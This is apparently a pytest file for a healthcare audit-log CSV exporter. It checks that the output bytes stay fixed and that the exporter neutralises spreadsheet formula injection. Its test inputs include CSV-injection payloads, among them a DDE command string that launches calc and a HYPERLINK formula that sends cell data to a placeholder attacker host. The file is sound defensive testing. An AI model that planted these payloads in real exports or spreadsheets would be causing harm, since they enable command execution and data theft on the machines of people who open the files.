"""Traces as CSV: bytes that must not change, and cells that no spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given, strategies as st

from sceau.http.trace_table import COLUMNS, table
from sceau_schemas.audit import AuditEvent
from unit.audit.samples import EVENT_ID, RECORD

V3 = "http://terminology.hl7.org/CodeSystem/v3-"


def event(**changes: Any) -> AuditEvent:
    agents = [
        {
            "type": {"coding": [{"code": "110153"}]},
            "requestor": False,
            "network": {"address": "192.0.2.7", "type": "2"},
        },
        {
            "type": {"coding": [{"code": "110150"}]},
            "who": {"identifier": {"value": "hospital"}},
            "requestor": False,
            "policy": ["urn:ietf:params:oauth:jti:x", "urn:sceau:policy:mode:bris_de_glace"],
        },
        {
            "type": {"coding": [{"system": V3 + "ParticipationType", "code": "IRCP"}]},
            "who": {"identifier": {"system": "urn:oid:1.2.250.1.71.4.2.1", "value": "899700000102"}},
            "name": changes.pop("name", "Dr Éléonore Martin"),
            "requestor": True,
        },
        {
            "type": {"coding": [{"system": V3 + "RoleClass", "code": "PROV"}]},
            "who": {"identifier": {"system": "urn:oid:1.2.250.1.71.4.2.2", "value": "1750000123"}},
            "requestor": False,
        },
    ]
    whole = {
        "id": EVENT_ID,
        "type": {"code": "rest"},
        "subtype": [{"code": "read"}, {"code": "ITI-68"}],
        "action": "R",
        "recorded": "2026-03-02T09:30:00.120Z",
        "outcome": "0",
        "agent": agents,
        "source": {"observer": {}},
        "entity": [{"what": {"reference": f"Patient/{RECORD}"}}, {"what": {"reference": "Binary/a.b"}}],
    }
    return AuditEvent.model_validate_json(json.dumps(whole | changes))


def test_the_bytes_are_frozen() -> None:
    assert table([event(), event(outcomeDesc="denied.no-grant", outcome="4")]).decode() == (
        '"recorded","event","type","subtypes","action","outcome","reason","person","person_name","structure","client",'
        '"address","mode","patient","resources"\r\n'
        f'"2026-03-02T09:30:00.120Z","{EVENT_ID}","rest","read ITI-68","R","0","",'
        '"urn:oid:1.2.250.1.71.4.2.1|899700000102","Dr Éléonore Martin","urn:oid:1.2.250.1.71.4.2.2|1750000123",'
        f'"hospital","192.0.2.7","bris_de_glace","Patient/{RECORD}","Binary/a.b"\r\n'
        f'"2026-03-02T09:30:00.120Z","{EVENT_ID}","rest","read ITI-68","R","4","denied.no-grant",'
        '"urn:oid:1.2.250.1.71.4.2.1|899700000102","Dr Éléonore Martin","urn:oid:1.2.250.1.71.4.2.2|1750000123",'
        f'"hospital","192.0.2.7","bris_de_glace","Patient/{RECORD}","Binary/a.b"\r\n'
    )


def name_cell(name: str) -> str:
    (row,) = csv.DictReader(io.StringIO(table([event(name=name)]).decode(), newline=""))
    return str(row["person_name"])


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+33",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=cmd|' /C calc'!A0",
        "  =1",
        "\u00a0=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "|calc",
        "%0A=1",
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
    ],
)
def test_a_cell_that_begins_like_a_formula_is_a_text(name: str) -> None:
    assert name_cell(name).startswith("'")


def test_a_name_breaks_out_of_no_cell_and_no_line() -> None:
    evil = '","=1+1","\r\n"=2","x'
    whole = table([event(name=evil), event()])
    assert whole.count(b"\r\n") == 3
    first, second = csv.DictReader(io.StringIO(whole.decode(), newline=""))
    assert first["person_name"] == '","=1+1"," "=2","x'
    assert {**first, "person_name": ""} == {**second, "person_name": ""}


@given(st.text(max_size=40))
def test_whatever_is_in_a_cell_stays_in_it(name: str) -> None:
    cell = name_cell(name)
    assert cell.lstrip("'").lstrip()[:1] not in ("=", "+", "-", "@") or cell.startswith("'")
    assert not any(ord(character) < 32 for character in cell)
    assert len(COLUMNS) == 15
